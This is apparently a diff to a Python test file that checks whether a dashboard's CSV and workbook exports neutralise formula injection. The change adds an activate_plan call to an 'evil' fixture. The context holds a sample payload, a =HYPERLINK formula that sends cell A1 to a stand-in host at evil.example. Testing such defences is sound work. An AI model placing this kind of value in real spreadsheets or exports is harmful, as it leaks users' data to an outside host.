@@ -21,7 +21,7 @@ from dashboard.export.council import write_council_workbook
 from dashboard.export.safe import FORMULA_STARTS, csv_text, formula_like, put_text
 from dashboard.export.tables import table_csv, table_names
 from ivm.cli import main
-from ivm.wiring import load_any
+from ivm.wiring import activate_plan, load_any
 
 EVIL = {
     "title": '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
@@ -100,6 +100,7 @@ def evil(demo_city, tmp_path_factory) -> Warehouse:
     for kind, name in (("areas", AREA_FILE), ("plan", PLAN_FILE)):
         result = load_any(wh, kind, str(folder / name), "canonical", False, {})
         assert result.counts.quarantined == 0, result.summary()
+    activate_plan(wh, "LIVP-EVIL")
     con = wh.connect_read_only()
     try:
         names = dict(con.execute("SELECT area_id, name FROM area").fetchall())
